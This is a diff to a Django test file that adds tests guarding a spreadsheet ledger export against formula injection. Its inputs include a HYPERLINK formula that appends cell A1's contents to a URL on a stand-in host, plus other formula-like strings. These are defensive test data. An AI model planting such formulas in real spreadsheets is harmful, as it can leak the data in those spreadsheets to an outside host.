@@ -3,6 +3,7 @@ the audit line written after the file, the download headers and the query budget
 
 import datetime as dt
 import io
+from decimal import Decimal
 from typing import Any
 from urllib.parse import quote
 from zoneinfo import ZoneInfo
@@ -10,11 +11,19 @@ from zoneinfo import ZoneInfo
 import pytest
 from django.db.models import QuerySet, Value
 from django.test import RequestFactory
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from chaindesk.accounts.models import Region
 from chaindesk.core import audit
-from chaindesk.core.export import XLSX_CONTENT_TYPE, Column, filtered_ledger, ledger_response
+from chaindesk.core.export import (
+    XLSX_CONTENT_TYPE,
+    Column,
+    filtered_ledger,
+    ledger_cell,
+    ledger_response,
+    sheet_title,
+    write_ledger,
+)
 from chaindesk.core.models import AuditAction, AuditLog
 
 pytestmark = pytest.mark.django_db
@@ -134,3 +143,63 @@ def test_ledger_response_audits_after_the_file_and_names_the_object(request_as, 
     line = _export_line("wangzh")
     assert line.message == "补链目标清单 (1)"
     assert (line.content_type.model, line.object_id) == ("region", str(region.pk))
+
+
+# --- formula injection: text is always written as text -----------------------------------------------------
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://x?"&A1,"点击查看")',
+    "=1+1",
+    "+86 523 8688 0000",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "#N/A",
+    "=",
+]
+
+
+@pytest.mark.parametrize("text", FORMULA_LIKE)
+def test_ledger_cell_keeps_formula_like_text_as_exact_text(text):
+    ws = Workbook(write_only=True).create_sheet()
+    cell = ledger_cell(ws, text)
+    assert (cell.data_type, cell.value) == ("s", text)  # no apostrophe, nothing added or lost
+
+
+def test_ledger_cell_keeps_numbers_and_dates_and_replaces_characters_xlsx_cannot_hold():
+    ws = Workbook(write_only=True).create_sheet()
+    assert (ledger_cell(ws, -5).data_type, ledger_cell(ws, -5).value) == ("n", -5)
+    assert ledger_cell(ws, Decimal("-1.50")).data_type == "n"
+    assert ledger_cell(ws, dt.date(2026, 11, 24)).data_type == "d"
+    assert ledger_cell(ws, "=a\x01b").value == "=a\ufffdb"  # would otherwise fail the whole export
+
+
+def test_sheet_title_is_valid_whatever_the_record_names_hold():
+    title = sheet_title(FORMULA_LIKE[0] + "产业链补链目标清单")
+    assert title == '=HYPERLINK("http___x_"&A1,"点击查看'  # 31 characters, no / ? :
+    assert sheet_title("'[a]*b:c'") == "_a__b_c"
+    assert sheet_title("") == "Sheet"
+
+
+def test_write_ledger_writes_no_formula_cell_anywhere():
+    rows: list[list[Any]] = [
+        [FORMULA_LIKE[0], FORMULA_LIKE[1], -5],
+        ["\r=1+1", "#N/A", Decimal("-2.5")],
+        ["-", None, 0],
+    ]
+    response = write_ledger(
+        filename="测试.xlsx",
+        title="=1+1台账",
+        notes=["@备注"],
+        columns=[Column("=列"), Column("+说明", wrap=True), Column("-数值")],
+        rows=rows,
+        warning="-警告",
+    )
+    sheet = load_workbook(io.BytesIO(response.getvalue())).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
+    assert [c.value for c in sheet["A"][:4]] == ["=1+1台账", "@备注", "-警告", "=列"]
+    assert [c.value for c in sheet[5]] == [FORMULA_LIKE[0], "=1+1", -5]
+    # the XML of the file turns a CR into LF; it stays text
+    assert [c.value for c in sheet[6]] == ["\n=1+1", "#N/A", -2.5]
+    assert [(c.value, c.data_type) for c in sheet[7]] == [("-", "s"), (None, "n"), (0, "n")]
